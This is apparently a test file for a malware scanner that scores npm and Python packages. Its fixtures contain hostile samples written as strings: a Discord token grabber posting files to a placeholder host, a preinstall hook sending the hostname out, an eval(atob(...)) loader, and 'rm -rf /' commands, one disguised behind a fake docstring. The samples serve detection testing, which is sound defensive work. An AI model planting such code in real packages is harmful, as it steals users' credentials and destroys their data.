from __future__ import annotations

from tests.analysis.builders import npm_tarball, sdist
from threatfeed.analysis import FLAG_THRESHOLD, Engine
from threatfeed.analysis.model import Indicator, Signal
from threatfeed.analysis.scoring import (
    PASSIVE_CAP,
    POINTS_AT_THRESHOLD,
    points,
    rule_points,
    score,
)

GRABBER = (
    "import os, requests\n"
    "path = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
    "requests.post('https://x.example.net/c', data=open(path).read())\n"
)


def _signal(weight: float, context: str, key: str) -> Signal:
    return Signal("f", 1, "", weight, context, key=key)


def test_threshold_sits_at_ten_points() -> None:
    assert score(POINTS_AT_THRESHOLD) == FLAG_THRESHOLD
    assert score(0) == 0.0
    assert score(9.9) < FLAG_THRESHOLD < score(10.1) < 1.0


def test_context_weighs_the_same_signal() -> None:
    install = Indicator("r", [], (_signal(5, "install", "k"),))
    tests = Indicator("r", [], (_signal(5, "test", "k"),))
    assert rule_points(install) == 5
    assert rule_points(tests) < 2


def test_repeats_of_a_key_count_once_and_distinct_keys_halve() -> None:
    repeated = Indicator("r", [], tuple(_signal(4, "install", "same") for _ in range(10)))
    assert rule_points(repeated) == 4
    distinct = Indicator("r", [], tuple(_signal(4, "install", str(i)) for i in range(3)))
    assert rule_points(distinct) == 4 + 2 + 1
    assert points([repeated, distinct]) == 11


def test_network_plus_harvesting_in_one_file_outweighs_each_alone(engine: Engine) -> None:
    harvest_only = "import os\np = os.path.join('discord', 'Local Storage', 'leveldb')\n"
    network_only = "import requests\nrequests.post('https://x.example.net/c', data='hi')\n"
    both = engine.analyze(sdist({"t/g.py": GRABBER}))
    alone = [engine.analyze(sdist({"t/g.py": c})) for c in (harvest_only, network_only)]
    assert "data_exfiltration_rule" in both.indicators
    assert both.flagged
    assert not any(a.flagged for a in alone)
    assert both.score > max(a.score for a in alone) + 0.1


def test_same_code_weighs_more_at_install_than_in_tests(engine: Engine) -> None:
    code = (
        "const os = require('os');\n"
        "require('https').get('https://x.example.net/' + os.hostname());\n"
    )
    hooked = engine.analyze(npm_tarball({"p.js": code}, scripts={"preinstall": "node p.js"}))
    tested = engine.analyze(npm_tarball({"test/p.test.js": code}))
    assert hooked.score > tested.score
    assert hooked.flagged
    assert not tested.flagged


def test_files_are_never_skipped_for_their_path(engine: Engine) -> None:
    """Malware hidden under tests/ or listed in .npmignore is still seen (weighed lower)."""
    analysis = engine.analyze(
        npm_tarball(
            {
                ".npmignore": "test/\n",
                "test/helper.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
            }
        )
    )
    assert "decode_and_execute_rule" in analysis.indicators
    assert any(loc.file == "package/test/helper.js" for loc in analysis.locations)


def test_tests_and_docs_together_never_flag_alone() -> None:
    """A security tool's fixtures show many techniques in tests and docs: capped, they stay
    below the threshold; with running code they still add up."""
    passive = [
        Indicator(
            f"r{i}",
            [],
            (_signal(17, "test", "k"), _signal(17, "docs", "k2"), _signal(17, "script", "k3")),
        )
        for i in range(8)
    ]
    assert points(passive) == PASSIVE_CAP == 4
    running = Indicator("run", [], (_signal(6, "code", "k"),))
    assert points([*passive, running]) == points([running]) + points(passive)
    # a key seen in running code counts there once; its copy in a test adds nothing
    both = Indicator("r", [], (_signal(10, "code", "k"), _signal(10, "test", "k")))
    assert points([both]) == rule_points(both) == 6


WIPE_DOC = (
    '"""Guards an agent\'s shell.\n\nWhen the agent is about to run ``rm -rf /``, stop it.\n"""\n'
    "import re\n\n\n"
    "def blocked(command):\n"
    '    """Whether ``command`` is ``shutdown -h now`` or the like."""\n'
    "    return bool(re.match(PATTERN, command))\n"
)


def test_a_technique_named_in_a_docstring_is_documentation(engine: Engine) -> None:
    from tests.analysis.builders import package
    from threatfeed.analysis.rules.signature_rules import destructive_command_rule

    found = destructive_command_rule(package(engine, sdist({"tidy_strings/guard.py": WIPE_DOC})))
    assert found is not None
    assert {signal.context for signal in found.signals} == {"docs"}


def test_code_that_only_looks_like_it_follows_a_docstring_runs(engine: Engine) -> None:
    """A quote placed in a string makes the count of quotes odd, and the last one opens its
    line, but the syntax tree has no docstring there (a bare string after code): the call
    is code."""
    from tests.analysis.builders import package
    from threatfeed.analysis.rules.signature_rules import destructive_command_rule

    decoy = (
        'MARK = \'a"""\'\n'
        "def f():\n"
        "    x = 1\n"
        '    """\n'
        '    """\n'
        "import os\nos.system('rm -rf / ')\n"
    )
    found = destructive_command_rule(package(engine, sdist({"tidy_strings/m.py": decoy})))
    assert found is not None
    assert "docs" not in {signal.context for signal in found.signals}
    # and a file that runs its own docstring has none
    doc_run = '"""\nimport os; os.system("rm -rf / ")\n"""\nexec(__doc__)\n'
    found = destructive_command_rule(package(engine, sdist({"tidy_strings/d.py": doc_run})))
    assert found is not None
    assert "docs" not in {signal.context for signal in found.signals}
